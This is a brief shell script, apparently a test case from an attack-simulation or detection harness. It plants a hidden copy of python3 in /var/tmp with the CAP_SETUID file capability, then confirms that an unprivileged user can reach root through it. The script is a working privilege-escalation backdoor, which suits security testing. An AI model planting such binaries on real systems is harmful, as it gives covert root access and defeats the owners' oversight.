#!/bin/sh
. /opt/case/case.sh

cp /usr/bin/python3 /var/tmp/.py
python3 -c '
import os, struct
os.setxattr("/var/tmp/.py", "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))'
setpriv --reuid 1000 --clear-groups /var/tmp/.py -c 'import os; os.setuid(0); print(os.getuid())' | grep -qx 0
took_place
